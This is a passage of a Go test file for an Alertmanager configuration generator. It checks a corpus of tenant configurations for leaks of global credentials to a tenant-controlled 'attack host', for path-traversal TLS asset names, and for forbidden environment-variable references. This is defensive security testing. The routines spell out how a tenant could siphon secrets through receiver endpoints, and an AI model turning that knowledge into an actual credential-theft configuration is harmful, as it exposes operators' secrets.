	am := &monitoringv1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: "monitoring", Name: "main"}}
	if c.amSpec != "" {
		if err := sigsyaml.UnmarshalStrict([]byte(c.amSpec), &am.Spec); err != nil {
			// The API server would refuse it.
			return amcfg.Input{}, false
		}
	}
	in := amcfg.Input{Alertmanager: am, Base: []byte(corpusBase), Assets: corpusAssets()}
	if c.base != "" {
		in.Base = []byte(c.base)
	}
	if c.global != "" {
		in.Global = mustAMC(t, amc("monitoring", "global", c.global))
	}
	if c.spec != "" {
		var obj monitoringv1alpha1.AlertmanagerConfig
		if err := sigsyaml.UnmarshalStrict([]byte(amc(tenantNS, objName(i), c.spec)), &obj); err != nil {
			t.Fatalf("%s: bad test object: %v", c.name, err)
		}
		in.Configs = []*monitoringv1alpha1.AlertmanagerConfig{&obj}
	}
	return in, true
}

// runCase generates the configuration of one case and checks the invariants.
func runCase(t *testing.T, i int, c amCase) amOutcome {
	in, ok := c.input(t, i)
	if !ok {
		return amOutcome{refused: true, reason: "the Alertmanager spec does not decode (API server)"}
	}
	res, err := amcfg.Generate(in)
	if err != nil {
		if c.amSpec == "" && c.base == "" {
			t.Errorf("%s: Generate failed for a tenant object: %v", c.name, err)
		}
		if err.Error() == "" {
			t.Errorf("%s: refused without a reason", c.name)
		}
		return amOutcome{refused: true, reason: err.Error()}
	}
	if _, err := config.Load(string(res.Config)); err != nil {
		t.Errorf("%s: Alertmanager refuses the generated configuration: %v", c.name, err)
	}
	checkAssetNames(t, c.name, res)
	if c.spec == "" {
		return amOutcome{res: res}
	}
	v := res.Verdicts[types.NamespacedName{Namespace: tenantNS, Name: objName(i)}]
	if !v.Accepted {
		if v.Reason == "" || v.Message == "" || v.Field == "" {
			t.Errorf("%s: refused without reason, field and message: %+v", c.name, v)
		}
		if strings.Contains(string(res.Config), tenantNS+"/"+objName(i)+"/") {
			t.Errorf("%s: refused object in the configuration", c.name)
		}
		return amOutcome{refused: true, reason: v.Reason + " " + v.Field + ": " + v.Message, res: res}
	}
	// The administrator may refer to the reloader's environment; a tenant may not.
	adminRefs := strings.Contains(c.amSpec+c.base+c.global, "$(")
	checkNoLeak(t, c.name, res.Config, tenantNS+"/"+objName(i)+"/", !adminRefs)
	return amOutcome{res: res}
}

// checkAssetNames: TLS assets are plain file names, and every file the configuration
// names under TLSAssetsDir is one of them.
func checkAssetNames(t *testing.T, name string, res *amcfg.Result) {
	for k := range res.TLSAssets {
		if k == "" || k == "." || k == ".." || strings.ContainsAny(k, "/\x00") {
			t.Errorf("%s: TLS asset name %q is not a plain file name", name, k)
		}
	}
	for _, m := range regexp.MustCompile(regexp.QuoteMeta(amcfg.TLSAssetsDir)+`/[^\s"']*`).FindAllString(string(res.Config), -1) {
		if _, ok := res.TLSAssets[strings.TrimPrefix(m, amcfg.TLSAssetsDir+"/")]; !ok {
			t.Errorf("%s: the configuration names %s, which is no TLS asset", name, m)
		}
	}
}

// endpointKeys are the keys of an integration (or its http_config) whose value decides
// where its requests go.
var endpointKeys = map[string]bool{"url": true, "api_url": true, "smarthost": true, "webhook_url": true, "proxy_url": true, "token_url": true, "app_url": true}

// routedToTenant says whether v (an integration as loaded) sends to a host of the tenant.
func routedToTenant(v any) bool {
	switch x := v.(type) {
	case map[any]any:
		for k, vv := range x {
			if s, ok := vv.(string); ok && endpointKeys[fmt.Sprint(k)] && strings.Contains(s, attackHost) {
				return true
			}
			if routedToTenant(vv) {
				return true
			}
		}
	case []any:
		for _, vv := range x {
			if routedToTenant(vv) {
				return true
			}
		}
	}
	return false
}

// envRefs are the $(NAME) references the config-reloader expands.
var envRefs = regexp.MustCompile(`\$\(([A-Za-z0-9_]+)\)`)

// checkNoLeak loads cfg as Alertmanager does, with the global defaults filled in and the
// secrets shown, and checks the receivers whose names start with prefix; checkRefs: and
// that cfg refers to no variable but $(POD_NAME).
func checkNoLeak(t *testing.T, name string, cfg []byte, prefix string, checkRefs bool) {
	for _, m := range envRefs.FindAllStringSubmatch(string(cfg), -1) {
		if checkRefs && m[1] != "POD_NAME" {
			t.Errorf("%s: the configuration refers to $(%s)", name, m[1])
		}
	}
	commoncfg.MarshalSecretValue = true
	defer func() { commoncfg.MarshalSecretValue = false }()
	loaded, err := config.Load(string(cfg))
	if err != nil {
		return // reported by the caller
	}
	var adminProxy string
	if h := loaded.Global.HTTPConfig; h != nil && h.ProxyURL.URL != nil {
		adminProxy = h.ProxyURL.String()
	}
	for _, r := range loaded.Receivers {
		if !strings.HasPrefix(r.Name, prefix) {
			continue
		}
		b, err := yaml.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		var m map[any]any
		if err := yaml.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
		for k, v := range m {
			list, ok := v.([]any)
			if !ok || !strings.HasSuffix(fmt.Sprint(k), "_configs") {
				continue
			}
			for j, integ := range list {
				if !routedToTenant(integ) {
					continue
				}
				out, _ := yaml.Marshal(integ)
				text := string(out)
				if adminProxy != "" {
					// The administrator's proxy (and its credentials) is kept: the proxy
					// is the administrator's.
					text = strings.ReplaceAll(text, adminProxy, "")
				}
				if strings.Contains(text, globalMark) {
					t.Errorf("%s: receiver %q %s[%d] sends to the tenant's host and holds a global credential:\n%s", name, r.Name, k, j, out)
				}
			}
		}
	}
}

// TestAMCorpus: see the comment at the top of the file.
func TestAMCorpus(t *testing.T) {
	cases := corpusCases()
	seen := map[string]bool{}
	counts := map[string][2]int{}
	var refused, accepted int
	for i, c := range cases {
		if seen[c.name] {
			t.Fatalf("duplicate case name %q", c.name)
		}
		seen[c.name] = true
		o := runCase(t, i, c)
		n := counts[c.family]
		if o.refused {
			refused++
			n[0]++
			if c.want == amAccepted {
				t.Errorf("%s: refused, want accepted: %s", c.name, o.reason)
			}
		} else {
			accepted++
			n[1]++
			if c.want == amRefused {
				t.Errorf("%s: accepted, want refused", c.name)
			}
		}
		counts[c.family] = n
		if testing.Verbose() {
			if o.refused {
				t.Logf("%-58s refused: %.160s", c.name, o.reason)
			} else {
				t.Logf("%-58s accepted", c.name)
			}
		}
	}
	fams := make([]string, 0, len(counts))
	for f := range counts {
		fams = append(fams, f)
	}
	sort.Strings(fams)
	for _, f := range fams {
		t.Logf("family %-9s refused %3d  accepted %3d", f, counts[f][0], counts[f][1])
	}
	t.Logf("AlertmanagerConfig corpus: %d cases, %d refused by Lookout, %d accepted (all loaded by Alertmanager's config.Load, no global credential at a tenant's endpoint)", len(cases), refused, accepted)
	if len(cases) < 100 {
		t.Errorf("the corpus has %d cases, want at least 100", len(cases))
	}
}
